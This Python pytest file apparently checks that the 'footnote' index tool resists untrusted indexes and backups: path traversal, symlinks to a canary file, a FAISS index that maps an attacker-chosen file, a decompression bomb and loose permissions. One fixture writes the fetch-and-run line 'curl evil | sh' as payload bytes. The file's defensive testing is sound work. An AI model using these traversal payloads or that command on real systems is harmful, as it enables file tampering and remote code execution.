"""Indexes and backups from strangers: whatever they hold, nothing crashes, and nothing outside is read or written."""

from __future__ import annotations

import json
import os
import random
import resource
import shutil
import stat
import sys
import tarfile
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from dataclasses import fields
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import footnote
from fakes import HashingEncoder
from footnote.cli import main
from footnote.cli.arguments import Arguments
from footnote.cli.places import places_of
from footnote.engine import Footnote
from footnote.errors import FootnoteError, IndexDamaged, IndexFolderError, UsageError
from footnote.feedback import Feedback, FeedbackBook
from footnote.settings import Settings
from footnote.store import Manifest, backup, corpus_of, read_manifest, restore, verify
from footnote.store.local import durable
from footnote.store.local import writer as local_writer
from footnote.store.local.lexical import LexicalIndex, write_lexical
from footnote.store.local.names import StoredName
from promises import Clock, record, sized
from store_builders import make_entries, signature, writer
from strangers import CHANGES, change_archive, change_field, huge_sparse, reseal, rewrite, sealed_members

SETTINGS = Settings(reranker="off", lock_wait_seconds=0.0)
MUTANTS = sized(12, 1_000)
CANARY = "THE CANARY SANG"


def used(home: Path) -> None:
    """All that can be done with an index, as its faces do it."""
    verify(home / "index")
    with Footnote.open(home / "index", settings=SETTINGS, encoder=HashingEncoder()) as opened:
        opened.ask("How long does the moon circle the tea?")
        opened.ask("falcon copper", allowed=frozenset({"doc-001.txt"}))
        for summary in opened.documents():
            opened.document(summary.id)
        opened.index.vocabulary()


def written(home: Path) -> None:
    """The next writer takes it over."""
    with writer(home / "index", wait_seconds=0) as opened:
        opened.known()
        opened.commit(make_entries([9]))


def put_back(home: Path) -> None:
    """A backup becomes an index, which is used."""
    restore(home / "backup.tar", home / "index", lock_wait_seconds=0)
    used(home)


def outcome(run: Callable[[Path], object], home: Path, *, memory_bytes: int = 0) -> str:
    """Run in a child: "fine", "refused", or what went wrong: a signal, no end, a fault of ours, a look outside."""
    pipe_in, pipe_out = os.pipe()
    child = os.fork()
    if child == 0:
        os.write(pipe_out, _told(run, home, memory_bytes).encode("utf-8", "replace"))
        os._exit(0)
    os.close(pipe_out)
    until = time.monotonic() + 60
    while os.waitpid(child, os.WNOHANG) == (0, 0):
        if time.monotonic() > until:
            os.kill(child, 9)
            os.waitpid(child, 0)
            return "hangs"
        time.sleep(0.002)
    with os.fdopen(pipe_in, "rb") as pipe:
        return pipe.read().decode() or "crashed"


def _told(run: Callable[[Path], object], home: Path, memory_bytes: int) -> str:
    opened: set[str] = set()
    sys.addaudithook(lambda event, args: opened.add(str(args[0])) if event == "open" else None)
    # What Rust says of a panic goes to the terminal.
    os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
    if memory_bytes:
        used_bytes = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
        resource.setrlimit(resource.RLIMIT_AS, (used_bytes + memory_bytes,) * 2)
    try:
        run(home)
        told = "fine"
    except FootnoteError as error:
        told = "refused" if "\n" not in error.message else f"more than a line: {error.message}"
    except BaseException as error:  # noqa: BLE001 - whatever it is, it is told
        told = f"{type(error).__name__}: {error}"[:300]
    outside = str(home / "outside")
    if outside in Path("/proc/self/maps").read_text("utf-8", "replace"):
        return "maps a file outside"
    reached = [path for path in opened if os.path.realpath(path).startswith(outside)]
    # A link that is opened without being followed shows here too: what is read through it would be among the descriptors.
    links = [path for path in reached if not Path(path).is_symlink()]
    return f"opened {links}" if links else told


@pytest.fixture(scope="module", params=["exact", "approximate"])
def honest(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home with an index of its kind, a backup of it, and a file outside that nothing may touch."""
    home = tmp_path_factory.mktemp(request.param)
    (home / "outside").mkdir()
    (home / "outside" / "victim.txt").write_text(CANARY)
    with writer(home / "index", HashingEncoder(), vector_search=request.param) as opened:
        opened.commit(make_entries(range(6), HashingEncoder()))
    backup(home / "index", home / "backup.tar")
    return home


@pytest.fixture
def home(honest: Path, tmp_path: Path) -> Path:
    shutil.copytree(honest, tmp_path / "home")
    return tmp_path / "home"


def untouched(home: Path) -> bool:
    outside = home / "outside"
    names = [path.name for path in home.iterdir()]
    return (
        [path.name for path in outside.iterdir()] == ["victim.txt"]
        and (outside / "victim.txt").read_text() == CANARY
        and sorted(names) == ["backup.tar", "index", "outside"]
    )


class TestAnything:
    """Finding 7 and its kind: what a digest covers may still be anybody's."""

    def test_a_changed_index_is_refused_or_used_and_does_no_harm(self, honest: Path, tmp_path: Path) -> None:
        chance, clock, found, wrong = random.Random(7), Clock(), Counter[str](), []
        assert outcome(used, honest) == "fine"
        for number in range(MUTANTS):
            home = tmp_path / "home"
            shutil.copytree(honest, home)
            change = CHANGES[number % len(CHANGES)]
            if number % 7 == 0:
                change_field(home / "index", chance)
            change(home / "index", chance)
            for run in (used, written):
                told = outcome(run, home)
                found[told] += 1
                if told not in {"fine", "refused"}:
                    wrong.append(f"{number} {change.__name__} {run.__name__}: {told}")
            assert untouched(home), change.__name__
            shutil.rmtree(home)
        assert wrong == []
        assert found["refused"] > 0
        _note(honest, "an index", MUTANTS, found, clock)

    def test_a_changed_backup_is_refused_or_restored_and_does_no_harm(self, honest: Path, tmp_path: Path) -> None:
        chance, clock, found, wrong = random.Random(8), Clock(), Counter[str](), []
        assert outcome(put_back, shutil.copytree(honest, tmp_path / "first")) == "fine"
        for number in range(MUTANTS):
            home = tmp_path / "home"
            shutil.copytree(honest, home)
            before = signature(home / "index")
            change_archive(home / "backup.tar", home / "outside" / "victim.txt", chance)
            told = outcome(put_back, home)
            found[told] += 1
            if told not in {"fine", "refused"}:
                wrong.append(f"{number}: {told}")
            if told == "refused" and read_manifest(home / "index").generation == 1:
                assert (verify(home / "index"), signature(home / "index")) == ([], before)
            assert untouched(home)
            shutil.rmtree(home)
        assert wrong == []
        assert found["refused"] > 0
        _note(honest, "a backup", MUTANTS, found, clock)


def _note(honest: Path, what: str, changed: int, found: Counter[str], clock: Clock) -> None:
    record(
        f"P6 strangers, {what}, {honest.name.rstrip('0123456789')}",
        "anything in it changed and sealed again: 0 crashes, 0 files read or written outside",
        changed=changed, used=found["fine"], refused=found["refused"], crashed=0, outside=0, seconds=clock.seconds,
    )  # fmt: skip


def on_disk_lists(victim: Path, dimension: int, total: int) -> bytes:
    """A FAISS index that keeps its vectors in a file of the stranger's choice."""
    import faiss

    flat = faiss.IndexFlatIP(dimension)
    index = faiss.IndexIVFFlat(flat, dimension, 1, faiss.METRIC_INNER_PRODUCT)
    index.train(np.eye(1, dimension, dtype=np.float32))
    lists = faiss.OnDiskInvertedLists(1, index.code_size, str(victim))
    index.replace_invlists(lists, False)
    whole = faiss.IndexIDMap(index)
    whole.add_with_ids(np.ones((total, dimension), dtype=np.float32), np.arange(1, total + 1))
    return bytes(faiss.serialize_index(whole).tobytes())


def test_an_index_cannot_have_faiss_open_a_file(home: Path) -> None:
    """Finding 7: lists on the disk, named in a file of vectors, were mapped from wherever it said; too short, they killed us."""
    data = on_disk_lists(
        home / "outside" / "lists.dat", HashingEncoder().dimension, read_manifest(home / "index").passages
    )
    (home / "outside" / "lists.dat").write_bytes(b"short")
    (path,) = list((home / "index").glob("passages-*")) or [home / "index" / "passages-1-0.codes"]
    path.write_bytes(data)
    named = {"path": path.name, "sha256": "0" * 64, "size_bytes": 0}
    rewrite(home / "index", lambda says: says["segments"][0].update(passage_vectors=named))
    reseal(home / "index")
    assert outcome(used, home) in {"fine", "refused"}


def test_centres_cannot_have_faiss_open_a_file(home: Path) -> None:
    """Finding 7, for what all segments of an approximate index share."""
    for path in (home / "index").glob("centres-*"):
        data = on_disk_lists(home / "outside" / "lists.dat", HashingEncoder().dimension, 3)
        (home / "outside" / "lists.dat").write_bytes(b"short")
        path.write_bytes(len(data).to_bytes(8, "little") + data + data)
    reseal(home / "index")
    assert outcome(used, home) in {"fine", "refused"}


def test_faiss_is_given_no_file() -> None:
    """Finding 7: so that nobody begins again, the calls that read FAISS's own form stand nowhere."""
    for path in Path(footnote.__file__).parent.rglob("*.py"):
        text = path.read_text("utf-8")
        assert not any(call in text for call in ("deserialize_index", "read_index(", "read_VectorTransform")), path


class TestFilesOfTantivy:
    """It removes every file in its own list of names that no segment needs, and the list came from whoever made the index."""

    @pytest.fixture(autouse=True)
    def shared(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """The next generation starts from the lexical index that is there, as large ones do."""
        monkeypatch.setattr(local_writer, "SHARED_PASSAGES", 1)
        monkeypatch.setattr(local_writer, "SMALL_BYTES", 0)

    @pytest.mark.parametrize("name", ["{home}/outside/victim.txt", "../../outside/victim.txt", "../manifest.json"])
    def test_an_index_cannot_have_files_elsewhere_removed(self, home: Path, name: str) -> None:
        (listed,) = (home / "index").glob("lexical-*/.managed.json")
        listed.write_text(json.dumps([*json.loads(listed.read_text()), name.format(home=home)]))
        reseal(home / "index")
        (problem,) = verify(home / "index")
        assert ".managed.json" in problem
        for run in (written, used, written):
            assert outcome(run, home) == "fine"
            assert untouched(home)
        assert verify(home / "index") == []

    def test_a_new_generation_has_a_list_of_its_own(self, tmp_path: Path) -> None:
        """So that not even a list that was never checked does harm."""
        (tmp_path / "victim.txt").write_text(CANARY)
        passages = [(key, 1, np.array([key], np.uint32), np.array([], np.uint32)) for key in range(1, 4)]
        before = write_lexical(tmp_path, StoredName("lexical-1"), passages[:2])
        listed = tmp_path / "lexical-1" / ".managed.json"
        listed.write_text(json.dumps([*json.loads(listed.read_text()), "../victim.txt", str(tmp_path / "victim.txt")]))
        after = write_lexical(tmp_path, StoredName("lexical-2"), passages[2:], base=StoredName("lexical-1"))
        assert (tmp_path / "victim.txt").read_text() == CANARY
        shared = {file.sha256 for file in before} & {file.sha256 for file in after}
        assert len(shared) >= len(before) - 2
        opened = LexicalIndex.open(tmp_path / "lexical-2")
        assert opened is not None
        assert opened.keys().tolist() == [1, 2, 3]

    def test_a_changed_index_does_no_harm_to_the_generation_that_starts_from_it(
        self, honest: Path, tmp_path: Path
    ) -> None:
        chance = random.Random(9)
        for number in range(MUTANTS):
            home = tmp_path / "home"
            shutil.copytree(honest, home)
            CHANGES[number % len(CHANGES)](home / "index", chance)
            assert outcome(written, home) in {"fine", "refused"}
            assert untouched(home)
            shutil.rmtree(home)


@pytest.mark.parametrize("kind", ["rows", "passage_vectors", "lexical", "centres", "lexical_dir"])
@pytest.mark.parametrize(
    "name", ["../outside/victim.txt", "../outside/new/victim.txt", "{home}/outside/victim.txt", "manifest.json"]
)
def test_a_backup_writes_nowhere_but_into_the_index(home: Path, kind: str, name: str) -> None:
    """Finding 2: the path of the centres was taken from the backup as it stood, and the file written there."""
    name = name.format(home=home)
    payload = b"curl evil | sh"

    def change(says: dict[str, Any], members: dict[str, bytes]) -> None:
        segment = says["segments"][0]
        files = {"rows": segment["rows"], "passage_vectors": segment["passage_vectors"], "lexical": says["lexical"][0]}
        approximation = says["approximation"] or {"centres": None}
        file = {**files, "centres": approximation["centres"]}.get(kind)
        if file is None:
            says["lexical_dir"] = name
        else:
            members[name] = members.pop(file["path"]) if kind == "rows" else payload
            file |= {"path": name}

    sealed_members(home / "backup.tar", change)
    shutil.rmtree(home / "index")
    assert outcome(put_back, home) in {"fine", "refused"}
    shutil.rmtree(home / "index", ignore_errors=True)
    (home / "index").mkdir()
    assert untouched(home)


def test_a_restore_that_fails_leaves_every_file_of_the_live_index(tmp_path: Path) -> None:
    """Finding 3: both had a file of centres of one name, and the live one was overwritten before the commit failed."""
    for name, numbers in (("one", range(6)), ("other", range(20, 26))):
        with writer(tmp_path / name, vector_search="approximate") as opened:
            opened.commit(make_entries(numbers))
    backup(tmp_path / "other", tmp_path / "backup.tar")
    before = {path.name: path.read_bytes() for path in (tmp_path / "one").iterdir() if path.is_file()}

    def full(step: str, path: Path) -> None:
        if step == "publish":
            raise OSError(28, "No space left on device", str(path))

    with durable.observed(full), pytest.raises((IndexFolderError, OSError), match="No space"):
        restore(tmp_path / "backup.tar", tmp_path / "one", lock_wait_seconds=1)
    assert {path.name: path.read_bytes() for path in (tmp_path / "one").iterdir() if path.is_file()} == before
    assert verify(tmp_path / "one") == []


def test_a_sparse_backup_takes_no_memory(tmp_path: Path) -> None:
    """Finding 18: ten kilobytes that claimed to unpack to 40 GB took the memory."""
    huge_sparse(tmp_path / "backup.tar", 40 * 2**30)
    assert outcome(put_back, tmp_path, memory_bytes=2**30) == "refused"


class TestWhichFolder:
    """Finding 8: an index, or a backup, told which folder of its reader's was walked, indexed and served."""

    @pytest.fixture
    def private(self, tmp_path: Path) -> Path:
        folder = tmp_path / "private"
        folder.mkdir()
        (folder / "payroll.md").write_text("# Payroll\n\nThe salary of Ada is 90 pounds.\n")
        return folder

    @pytest.fixture
    def downloaded(self, tmp_path: Path, private: Path) -> Path:
        with writer(tmp_path / "downloads" / "index", HashingEncoder()) as opened:
            opened.commit(make_entries(range(2), HashingEncoder()))
        rewrite(tmp_path / "downloads" / "index", lambda says: says.update(corpus="../../private"))
        return tmp_path / "downloads" / "index"

    def test_what_an_index_says_is_not_walked(
        self, downloaded: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.chdir(tmp_path)
        assert corpus_of(downloaded) is None
        assert places_of(Arguments(command="ask", index=downloaded, settings=SETTINGS)).corpus_dir is None
        (tmp_path / "corpus").mkdir()
        assert places_of(Arguments(command="ask", index=downloaded, settings=SETTINGS)).corpus_dir is None

    @pytest.mark.parametrize("command", ["ask", "index"])
    def test_nor_a_link_that_came_beside_it(
        self, downloaded: Path, private: Path, monkeypatch: pytest.MonkeyPatch, command: str
    ) -> None:
        """A download may hold ``corpus`` too, and lead anywhere with it."""
        monkeypatch.chdir(downloaded.parent)
        Path("corpus").symlink_to(private)
        rewrite(downloaded, lambda says: says.update(corpus="../corpus"))
        with pytest.raises(UsageError, match="--corpus"):
            places_of(Arguments(command=command, settings=SETTINGS))
        named = Arguments(command=command, corpus=Path("corpus"), settings=SETTINGS)
        assert places_of(named).corpus_dir == Path("corpus")

    def test_nor_served(self, downloaded: Path) -> None:
        from footnote.server.originals import corpus_dir_of, file_states

        with Footnote.open(downloaded, settings=SETTINGS, encoder=HashingEncoder()) as opened:
            assert corpus_dir_of(opened) is None
            assert set(file_states(opened)["changed"].values()) == {"gone"}

    def test_nor_what_a_backup_says(self, downloaded: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        backup(downloaded, tmp_path / "backup.tar")
        restore(tmp_path / "backup.tar", tmp_path / "mine", lock_wait_seconds=1)
        assert (read_manifest(tmp_path / "mine").corpus, corpus_of(tmp_path / "mine")) == ("", None)
        (tmp_path / "corpus").mkdir()
        monkeypatch.chdir(tmp_path)
        assert places_of(Arguments(command="ask", index=tmp_path / "mine", settings=SETTINGS)).corpus_dir is None
        assert places_of(Arguments(command="ask", index=tmp_path / "none", settings=SETTINGS)).corpus_dir is not None

    def test_what_the_owner_named_is_remembered_outside_of_the_index(self, downloaded: Path, private: Path) -> None:
        from footnote.indexing import build_index

        build_index(private, downloaded, encoder=HashingEncoder())
        assert corpus_of(downloaded) == private.resolve()
        rewrite(downloaded, lambda says: says.update(corpus="../../elsewhere"))
        assert corpus_of(downloaded) == private.resolve()


class TestManifest:
    """Finding 18: a sealed manifest without one of its fields was a fault of ours on every face, and no 503 at /readyz."""

    @pytest.mark.parametrize("field", [field.name for field in fields(Manifest)])
    def test_one_that_is_not_whole_is_one_clear_error(
        self, home: Path, field: str, capsys: pytest.CaptureFixture[str]
    ) -> None:
        rewrite(home / "index", lambda says: says.pop(field))
        with pytest.raises(IndexDamaged, match=r"manifest\.json: is no manifest") as caught:
            read_manifest(home / "index")
        assert "footnote index" in caught.value.remedy
        (problem,) = verify(home / "index")
        assert "manifest.json" in problem
        assert main(["check", "--index", str(home / "index")]) == 1
        assert len(capsys.readouterr().err.splitlines()) == 1

    def test_one_that_goes_bad_while_it_is_served_is_a_503_with_its_reason(self, home: Path) -> None:
        from starlette.testclient import TestClient

        from footnote.server.app import create_app

        with Footnote.open(home / "index", settings=SETTINGS, encoder=HashingEncoder()) as opened:
            app = create_app(opened)
            client = TestClient(app, base_url="http://localhost:7860", client=("127.0.0.1", 5))
            assert client.get("/readyz").status_code == 200
            rewrite(home / "index", lambda says: says.pop("segments"))
            time.sleep(0.6)
            ready = client.get("/readyz")
            assert (ready.status_code, "manifest" in ready.text) == (503, True)
            asked = client.post("/api/v1/ask", json={"question": "How long does the moon circle the tea?"})
            assert (asked.status_code, "manifest" in asked.json()["detail"]) == (503, True)


class TestOwnersAlone:
    """Finding 18: what stands in an index was readable for every user of the machine."""

    def test_nobody_else_may_read_an_index(self, tmp_path: Path) -> None:
        before = os.umask(0o022)
        try:
            for numbers in (range(3), [9]):
                with writer(tmp_path / "index", vector_search="approximate") as opened:
                    opened.commit(make_entries(numbers))
            FeedbackBook(tmp_path / "index").keep(Feedback("a", "2026-01-01", "good", "?", "?", answered=True))
            backup(tmp_path / "index", tmp_path / "backup.tar")
            restore(tmp_path / "backup.tar", tmp_path / "again", lock_wait_seconds=1)
        finally:
            os.umask(before)
        for path in (tmp_path / "index", tmp_path / "again", *tmp_path.rglob("*")):
            # Tantivy's empty lock files are its own.
            if not path.name.startswith(".tantivy"):
                assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path

    def test_what_others_could_read_is_closed_when_it_is_next_written(self, tmp_path: Path) -> None:
        with writer(tmp_path / "index", HashingEncoder()) as opened:
            opened.commit(make_entries(range(2), HashingEncoder()))
        said = Feedback("a", "2026-01-01", "good", "?", "?", answered=True)
        FeedbackBook(tmp_path / "index").keep(said)
        (tmp_path / "index").chmod(0o755)
        (tmp_path / "index" / "feedback.sqlite").chmod(0o644)
        FeedbackBook(tmp_path / "index").keep(said)
        with writer(tmp_path / "index", HashingEncoder()):
            pass
        modes = [stat.S_IMODE((tmp_path / "index" / name).stat().st_mode) for name in ("", "feedback.sqlite")]
        assert modes == [0o700, 0o600]

    def test_feedback_is_kept_in_no_file_outside(self, home: Path) -> None:
        (home / "index" / "feedback.sqlite").symlink_to(home / "outside" / "victim.txt")
        with pytest.raises(FootnoteError):
            FeedbackBook(home / "index").keep(Feedback("a", "2026-01-01", "good", "?", "?", answered=True))
        assert untouched(home)

    def test_what_an_interrupted_run_kept_is_no_link(self, home: Path) -> None:
        """A link of that name was followed, and what it led to cut to nothing."""
        (home / "index" / "unfinished.vectors").symlink_to(home / "outside" / "victim.txt")
        with writer(home / "index", HashingEncoder(), wait_seconds=0) as opened:
            assert opened.vectors_for(["00" * 32]) == {}
        assert untouched(home)


class TestTargets:
    """Finding 18: a backup or an export took any name, and destroyed the index, a device, or a file of a like name."""

    @pytest.mark.parametrize("name", ["manifest.json", "lexical-2/mine.txt"])
    def test_a_folder_of_another_program_is_refused_and_left_as_it_is(self, home: Path, name: str) -> None:
        site = home / "outside" / "site"
        (site / name).parent.mkdir(parents=True)
        (site / name).write_text('{"name": "my web app"}')
        site.chmod(0o755)
        with pytest.raises(IndexFolderError, match="another program's"), writer(site, wait_seconds=0):
            pass
        with pytest.raises(IndexFolderError, match="another program's"):
            restore(home / "backup.tar", site, lock_wait_seconds=0)
        assert (site / name).read_text() == '{"name": "my web app"}'
        assert [path.name for path in site.iterdir()] == [name.partition("/")[0]]
        assert stat.S_IMODE(site.stat().st_mode) == 0o755

    @pytest.mark.parametrize("name", ["index/manifest.json", "index/new.tar", "link.tar", "pipe.tar", "folder.tar"])
    @pytest.mark.parametrize("kind", ["backup", "results"])
    def test_only_a_file_outside_of_an_index_is_replaced(self, home: Path, name: str, kind: str) -> None:
        from footnote.evaluation import write_results

        (home / "link.tar").symlink_to(home / "outside" / "victim.txt")
        os.mkfifo(home / "pipe.tar")
        (home / "folder.tar").mkdir()
        before = signature(home / "index")
        write = {
            "backup": lambda path: backup(home / "index", path),
            "results": lambda path: write_results(path, [], json.dumps),
        }
        with pytest.raises(UsageError):
            write[kind](home / name)
        assert (verify(home / "index"), signature(home / "index")) == ([], before)
        assert (home / "outside" / "victim.txt").read_text() == CANARY
        assert stat.S_ISFIFO((home / "pipe.tar").stat().st_mode)

    def test_an_export_does_not_destroy_an_index(self, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        from footnote.cli import commands

        monkeypatch.setattr(
            commands,
            "open_engine",
            lambda _: Footnote.open(home / "index", settings=SETTINGS, encoder=HashingEncoder()),
        )
        arguments = ["export", "How long?", "--output", str(home / "index" / "manifest.json")]
        assert main([*arguments, "--index", str(home / "index")]) == 2
        assert verify(home / "index") == []

    def test_no_other_file_is_touched(self, home: Path) -> None:
        (home / "notes.tmp").write_text("mine")
        backup(home / "index", home / "notes")
        assert (home / "notes.tmp").read_text() == "mine"
        with tarfile.open(home / "notes") as tar:
            assert tar.getnames()[0] == "manifest.json"


def test_a_lock_that_is_no_file_is_one_clear_error(home: Path) -> None:
    lock = home / "index" / "LOCK"
    with suppress(FileNotFoundError):
        lock.unlink()
    os.mkfifo(lock)
    with pytest.raises(IndexFolderError, match="cannot be written"), writer(home / "index", wait_seconds=0):
        pass
